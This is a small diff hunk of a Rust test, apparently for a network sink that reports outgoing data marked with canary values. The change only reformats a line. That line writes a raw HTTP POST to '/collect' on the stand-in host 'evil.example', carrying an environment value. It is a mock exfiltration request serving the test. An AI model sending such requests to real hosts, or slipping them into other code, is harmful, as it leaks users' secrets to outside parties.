@@ -61,7 +61,8 @@ fn what_was_sent_is_told_with_its_canaries() {
         }
     }
     visit(&sink, &format!("{}:80", std::net::Ipv4Addr::from(address)), |mut stream| {
-        write!(stream, "POST /collect HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 25\r\nConnection: close\r\n\r\nenv={VALUE}!").unwrap();
+        write!(stream, "POST /collect HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 25\r\nConnection: close\r\n\r\nenv={VALUE}!")
+            .unwrap();
         let mut heard = String::new();
         stream.read_to_string(&mut heard).unwrap();
         assert!(heard.starts_with("HTTP/1.1 200 OK\r\n") && heard.contains("{\"ok\":true"), "{heard}");
